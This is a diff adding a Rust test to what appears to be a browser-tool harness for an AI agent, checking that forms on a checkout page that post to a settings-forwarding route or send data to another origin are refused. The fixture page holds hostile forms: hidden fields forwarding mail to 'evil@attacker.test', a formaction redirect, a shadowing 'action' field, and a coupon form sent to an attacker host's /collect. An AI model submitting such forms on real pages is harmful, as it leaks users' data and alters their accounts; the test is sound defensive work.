@@ -129,3 +129,144 @@ async fn changes_stay_where_the_task_acts(backend: Backend) {
 }
 
 every_backend!(changes_stay_where_the_task_acts);
+
+/// What `server` received at `route`, each request's body (a form posted)
+/// or its query (a form sent by `get`).
+async fn received(server: &MockServer, route: &str) -> Vec<String> {
+    server
+        .received_requests()
+        .await
+        .unwrap_or_default()
+        .iter()
+        .filter(|request| request.url.path() == route)
+        .map(|request| match request.url.query() {
+            Some(query) => query.to_owned(),
+            None => String::from_utf8_lossy(&request.body).into_owned(),
+        })
+        .collect()
+}
+
+/// A page the task acts on holds forms that go elsewhere: posted to the
+/// settings (by its `action`, a button's `formaction`, with a field named
+/// `action` standing in for the form's property), and sent by `get` to
+/// another origin. Pressing them (a click, Enter after typing, Enter on
+/// the focused field) is refused, naming where the form goes; the form
+/// that stays on the checkout is sent. The truth is what the servers
+/// received.
+async fn forms_go_where_their_action_says(backend: Backend) {
+    let web = Web::start().await;
+    serve_settings(&web.shop).await;
+    let attacker = web.attacker.uri();
+    serve(
+        &web.shop,
+        "/checkout/review",
+        &format!(
+            r#"<!doctype html><html><head><title>Review</title></head><body>
+<h1>Review your order</h1>
+<form method="post" action="/settings/forward">
+<input type="hidden" name="to" value="evil@attacker.test">
+<input name="action" type="hidden" value="/checkout/done">
+<label>Gift note <input name="note"></label>
+<button>Confirm order</button>
+</form>
+<form method="post" action="/checkout/done">
+<input type="hidden" name="to" value="evil@attacker.test">
+<button formaction="/settings/forward">Confirm quickly</button>
+</form>
+<form action="{attacker}/collect">
+<label>Coupon <input name="coupon"></label> <button>Apply</button>
+</form>
+<form method="post" action="/checkout/done">
+<label>Delivery note <input name="delivery"></label> <button>Place order</button>
+</form>
+</body></html>"#
+        ),
+    )
+    .await;
+    Mock::given(path("/checkout/done"))
+        .respond_with(html(
+            "<!doctype html><title>Placed</title><p>Order placed.</p>",
+        ))
+        .mount(&web.shop)
+        .await;
+    Mock::given(path("/collect"))
+        .respond_with(html("<!doctype html><title>Got it</title><p>Thanks.</p>"))
+        .mount(&web.attacker)
+        .await;
+    let shop = web.shop.uri();
+    let checkout = TaskOrigin::parse(&format!("{shop}/checkout")).expect("a page of the shop");
+    let pack = pack_built(
+        backend,
+        &web,
+        |task| Task {
+            act: vec![checkout],
+            ..task
+        },
+        None,
+        |options| options,
+    );
+    let page = ok(
+        &pack,
+        "open",
+        json!({ "url": format!("{shop}/checkout/review") }),
+    )
+    .await;
+    let number = |what: &str| tools::element_number(&page.text, what).expect(what);
+    let to_settings = format!("posts its form to {shop}/settings/forward");
+    refused(
+        &pack,
+        "click",
+        json!({ "element": number("button \"Confirm order\"") }),
+        &to_settings,
+    )
+    .await;
+    refused(
+        &pack,
+        "click",
+        json!({ "element": number("button \"Confirm quickly\"") }),
+        &to_settings,
+    )
+    .await;
+    let note = number("textbox \"Gift note\"");
+    refused(
+        &pack,
+        "type",
+        json!({ "element": note, "text": "For Ada", "submit": true }),
+        &to_settings,
+    )
+    .await;
+    // Typed without Enter, it stays in the field, which keeps the focus.
+    ok(&pack, "type", json!({ "element": note, "text": "For Ada" })).await;
+    refused(&pack, "press", json!({ "keys": "Enter" }), &to_settings).await;
+    refused(
+        &pack,
+        "type",
+        json!({ "element": number("textbox \"Coupon\""), "text": "TEA10", "submit": true }),
+        &format!("sends what its form holds to {attacker}/collect"),
+    )
+    .await;
+    // The form that stays on the checkout goes.
+    let placed = ok(
+        &pack,
+        "type",
+        json!({ "element": number("textbox \"Delivery note\""), "text": "Leave at the door",
+                "submit": true }),
+    )
+    .await;
+    assert!(placed.text.contains("Order placed."), "{}", placed.text);
+    assert_eq!(
+        received(&web.shop, "/checkout/done").await,
+        ["delivery=Leave+at+the+door"]
+    );
+    assert!(
+        forwards(&web.shop).await.is_empty(),
+        "nothing was forwarded"
+    );
+    assert!(
+        received(&web.attacker, "/collect").await.is_empty(),
+        "nothing reached the other origin"
+    );
+    pack.close().await;
+}
+
+every_backend!(forms_go_where_their_action_says);
